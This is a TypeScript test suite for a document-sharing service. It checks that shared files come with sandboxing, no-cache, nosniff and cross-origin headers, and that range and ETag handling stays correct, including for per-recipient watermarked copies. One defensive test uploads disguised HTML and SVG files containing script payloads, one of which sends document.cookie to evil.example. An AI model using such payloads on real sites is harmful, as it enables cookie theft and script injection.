/**
 * What a recipient's browser gets with a shared document's bytes: headers that keep the file inert
 * whatever it holds, ranges and ETags that stay true to the bytes this recipient is given.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createHttpFixture, type HttpFixture } from './helpers/fixture.js';
import { makePdf, PNG_1X1 as PNG } from './helpers/pdf.js';
import { sha256 } from './helpers/uploads.js';
import { DOCX, docxWithLateContentTypes, XLSX, xlsxAfterCustomXml } from './helpers/zip.js';

const DAY = 86_400_000;

describe('shared documents: the headers on their bytes', () => {
  let f: HttpFixture;
  let pdf: Uint8Array;
  before(async () => {
    f = await createHttpFixture();
    pdf = await makePdf(3);
  });
  after(() => f.close());

  async function share(documents: { name: string; body: Uint8Array }[], options: Record<string, unknown> = {}) {
    const docs = [];
    for (const document of documents) docs.push(await f.gk.documents.add(f.firmId, document));
    const expiresAt = new Date(f.gk.runtime.now() + 7 * DAY).toISOString();
    const { links } = await f.gk.shares.create(f.firmId, {
      title: 'Unterlagen für die Finanzierung',
      documentIds: docs.map((d) => d.id),
      recipients: [
        { email: 'banker@bank.example', locale: 'de', expiresAt },
        { email: 'lawyer@law.example', locale: 'en', expiresAt },
      ],
      ...options,
    });
    return { docs, links };
  }
  async function open(token: string): Promise<Record<string, string>> {
    const response = await fetch(`${f.endpoint}/v1/session`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ token }) });
    assert.equal(response.status, 201);
    return { authorization: `Bearer ${((await response.json()) as { session: string }).session}` };
  }
  const get = (path: string, headers: Record<string, string>, method = 'GET') => fetch(`${f.endpoint}${path}`, { method, headers });
  const bytesOf = async (response: Response) => Buffer.from(await response.arrayBuffer());

  /** The headers no file response may be without: run nothing, cache nothing, guess no type, embed nowhere else. */
  function assertInert(response: Response, what: string): void {
    assert.equal(response.headers.get('content-security-policy'), "sandbox; default-src 'none'", `${what}: a sandbox, no scripts, nothing loaded`);
    assert.equal(response.headers.get('cache-control'), 'private, no-store', `${what}: no shared cache keeps a recipient’s document`);
    assert.equal(response.headers.get('cross-origin-resource-policy'), 'same-site', `${what}: no other site embeds the bytes`);
    assert.equal(response.headers.get('x-content-type-options'), 'nosniff', `${what}: the browser takes the type as given`);
  }

  // SECURITY.md U22: every type a firm can share (the types an upload request takes by default),
  // each checked as a document of that type, on the viewer's route and the download.
  it('SECURITY.md U22: each allowed type comes inert, as the type its bytes are, inline for the viewer and as an attachment for the download', async () => {
    const bytes = (...parts: (string | number[])[]) => Buffer.from(parts.flatMap((part) => (typeof part === 'string' ? [...Buffer.from(part)] : part)));
    const samples: { name: string; body: Uint8Array; type: string }[] = [
      { name: 'Bescheid.pdf', body: pdf, type: 'application/pdf' },
      { name: 'Beleg.jpg', body: bytes([0xff, 0xd8, 0xff, 0xe0, 0, 0x10], 'JFIF', Array(64).fill(0)), type: 'image/jpeg' },
      { name: 'Grundriss.png', body: PNG, type: 'image/png' },
      { name: 'IMG_0001.heic', body: bytes([0, 0, 0, 0x18], 'ftypheic', [0, 0, 0, 0], 'mif1heic', Array(64).fill(0)), type: 'image/heic' },
      { name: 'IMG_0002.heif', body: bytes([0, 0, 0, 0x18], 'ftypmif1', [0, 0, 0, 0], 'mif1heic', Array(64).fill(0)), type: 'image/heif' },
      { name: 'Scan.tif', body: bytes([0x49, 0x49, 0x2a, 0, 8, 0, 0, 0], Array(64).fill(0)), type: 'image/tiff' },
      { name: 'Foto.webp', body: bytes('RIFF', [0x24, 0, 0, 0], 'WEBPVP8 ', Array(64).fill(0)), type: 'image/webp' },
      { name: 'Vertrag.docx', body: docxWithLateContentTypes(), type: DOCX },
      { name: 'Konten.xlsx', body: xlsxAfterCustomXml(), type: XLSX },
      { name: 'Buchungen.csv', body: Buffer.from('Datum;Betrag;Text\n01.02.2026;12,50;Büro\n'), type: 'text/csv' },
      { name: 'Notiz.txt', body: Buffer.from('Sehr geehrte Damen und Herren, anbei die Unterlagen.'), type: 'text/plain' },
    ];
    const { docs, links } = await share(samples.map(({ name, body }) => ({ name, body })));
    assert.deepEqual(docs.map((doc) => doc.type), samples.map((sample) => sample.type), 'each sniffed as its type');
    const auth = await open(links[0]!.token);
    for (const [i, doc] of docs.entries()) {
      const content = await get(`/v1/share/documents/${doc.id}/content`, auth);
      assert.equal(content.status, 200, doc.name);
      assertInert(content, `${doc.name}: content`);
      assert.equal(content.headers.get('content-type'), samples[i]!.type, `${doc.name}: content`);
      assert.match(content.headers.get('content-disposition')!, /^inline; filename="/, `${doc.name}: content`);
      assert.equal(sha256(await bytesOf(content)), sha256(samples[i]!.body));
      const download = await get(`/v1/share/documents/${doc.id}/download`, auth);
      assert.equal(download.status, 200, doc.name);
      assertInert(download, `${doc.name}: download`);
      assert.equal(download.headers.get('content-type'), samples[i]!.type, `${doc.name}: download`);
      assert.match(download.headers.get('content-disposition')!, /^attachment; filename="[^"]+"; filename\*=UTF-8''/, `${doc.name}: download`);
      assert.equal(sha256(await bytesOf(download)), sha256(samples[i]!.body));
    }
  });

  it('the viewer’s bytes, whole (200) or in part (206), and the download come sandboxed, uncached, unsniffed and for this site only', async () => {
    const { docs, links } = await share([{ name: 'Jahresabschluss 2025.pdf', body: pdf }]);
    const auth = await open(links[0]!.token);
    const content = `/v1/share/documents/${docs[0]!.id}/content`;
    const whole = await get(content, auth);
    assert.equal(whole.status, 200);
    assertInert(whole, 'content');
    await whole.arrayBuffer();
    const part = await get(content, { ...auth, range: 'bytes=0-1023' });
    assert.equal(part.status, 206);
    assertInert(part, 'a range');
    assert.equal((await bytesOf(part)).length, 1024);
    const head = await get(content, auth, 'HEAD');
    assertInert(head, 'HEAD content');
    const download = await get(`/v1/share/documents/${docs[0]!.id}/download`, auth);
    assert.equal(download.status, 200);
    assertInert(download, 'download');
    assert.equal(sha256(await bytesOf(download)), sha256(pdf));
  });

  it('If-Range: a range asked for against an older version of the document gets the whole current file (200); against the current ETag, the range (206)', async () => {
    const { docs, links } = await share([{ name: 'Jahresabschluss 2025.pdf', body: pdf }]);
    const auth = await open(links[0]!.token);
    const content = `/v1/share/documents/${docs[0]!.id}/content`;
    const etag = (await get(content, auth, 'HEAD')).headers.get('etag')!;
    assert.equal(etag, `"${sha256(pdf)}"`);
    // What pdf.js holds from a draft the firm replaced: the first bytes of another file.
    const draftEtag = `"${sha256(await makePdf(2))}"`;
    const stale = await get(content, { ...auth, range: 'bytes=0-1023', 'if-range': draftEtag });
    assert.equal(stale.status, 200, 'the whole file, not a piece to splice into the old one');
    assert.equal(stale.headers.get('content-range'), null);
    assert.equal(sha256(await bytesOf(stale)), sha256(pdf));
    const current = await get(content, { ...auth, range: 'bytes=0-1023', 'if-range': etag });
    assert.equal(current.status, 206);
    assert.equal(current.headers.get('content-range'), `bytes 0-1023/${pdf.length}`);
    assert.deepEqual(await bytesOf(current), Buffer.from(pdf.subarray(0, 1024)));
  });

  it('If-None-Match: a list that holds the current ETag, its weak form or `*` earns a 304; a list without it, the bytes (RFC 9110 §13.1.2)', async () => {
    const { docs, links } = await share([{ name: 'Jahresabschluss 2025.pdf', body: pdf }]);
    const auth = await open(links[0]!.token);
    const content = `/v1/share/documents/${docs[0]!.id}/content`;
    const etag = (await get(content, auth, 'HEAD')).headers.get('etag')!;
    const older = `"${sha256(await makePdf(2))}"`;
    for (const header of [`${older}, ${etag}`, `${older},${etag}`, `W/${etag}`, `${older}, W/${etag}`, '*', ' * ']) {
      const response = await get(content, { ...auth, 'if-none-match': header });
      assert.equal(response.status, 304, `If-None-Match: ${header}`);
      assert.equal(response.headers.get('etag'), etag);
      assert.equal((await bytesOf(response)).length, 0);
    }
    for (const header of [older, `${older}, W/${older}`, etag.slice(1, -1), `"${etag}"`]) {
      const response = await get(content, { ...auth, 'if-none-match': header });
      assert.equal(response.status, 200, `If-None-Match: ${header}`);
      assert.equal(sha256(await bytesOf(response)), sha256(pdf));
    }
  });

  it('watermarked: each recipient’s ETag is the SHA-256 of their own stamped copy, neither the original’s nor the other recipient’s; the other’s ETag earns no 304', async () => {
    const { docs, links } = await share([{ name: 'Jahresabschluss 2025.pdf', body: pdf }], { watermark: true });
    const content = `/v1/share/documents/${docs[0]!.id}/content`;
    const seen: { auth: Record<string, string>; etag: string; sha: string }[] = [];
    for (const link of links) {
      const auth = await open(link.token);
      const response = await get(content, auth);
      const sha = sha256(await bytesOf(response));
      const etag = response.headers.get('etag')!;
      assert.equal(etag, `"${sha}"`, `${link.email}: the ETag names the bytes sent`);
      assert.notEqual(sha, sha256(pdf), `${link.email}: a stamped copy, not the original`);
      assert.notEqual(etag, `"${docs[0]!.sha256}"`);
      seen.push({ auth, etag, sha });
    }
    const [banker, lawyer] = [seen[0]!, seen[1]!];
    assert.notEqual(banker.etag, lawyer.etag);
    assert.notEqual(banker.sha, lawyer.sha);
    const download = await get(`/v1/share/documents/${docs[0]!.id}/download`, banker.auth);
    assert.equal(sha256(await bytesOf(download)), banker.sha, 'the download is the same stamped copy');

    assert.equal((await get(content, { ...banker.auth, 'if-none-match': banker.etag })).status, 304);
    const others = await get(content, { ...banker.auth, 'if-none-match': lawyer.etag });
    assert.equal(others.status, 200, 'a cached copy of the lawyer’s file is not the banker’s');
    assert.equal(sha256(await bytesOf(others)), banker.sha);
    const spliced = await get(content, { ...banker.auth, range: 'bytes=0-99', 'if-range': lawyer.etag });
    assert.equal(spliced.status, 200, 'nor is a range of it');
    assert.equal(sha256(await bytesOf(spliced)), banker.sha);
  });

  it('SECURITY U18: a document whose bytes are HTML or SVG with a script, named .pdf, is never answered as a page or a picture; nosniff and the sandbox come with it', async () => {
    const hostile = {
      'Rechnung.pdf': '<!doctype html><html><body><script>fetch("https://evil.example/?"+document.cookie)</script></body></html>',
      'Grundriss.pdf': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
      'Lageplan.pdf': '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
      'Vollmacht.pdf': '<?xml version="1.0"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(document.domain)</script></html>',
    };
    const documents = Object.entries(hostile).map(([name, text]) => ({ name, body: new TextEncoder().encode(text) }));
    const { docs, links } = await share(documents);
    const auth = await open(links[0]!.token);
    for (const doc of docs) {
      for (const route of ['content', 'download']) {
        const response = await get(`/v1/share/documents/${doc.id}/${route}`, auth);
        assert.equal(response.status, 200);
        const type = response.headers.get('content-type') ?? '';
        // Browsers run HTML, and any XML type (text/xml, application/xml, …+xml) as a document that may be SVG or XHTML.
        assert.doesNotMatch(type, /html|svg|xml/i, `${doc.name} (${route}) answered as ${type}`);
        assert.ok(['text/plain', 'application/octet-stream'].includes(type.split(';')[0]!), `${doc.name} (${route}) answered as ${type}`);
        assertInert(response, `${doc.name} (${route})`);
        assert.equal(sha256(await bytesOf(response)), sha256(documents[docs.indexOf(doc)]!.body), 'the bytes as the firm gave them');
      }
    }
  });
});
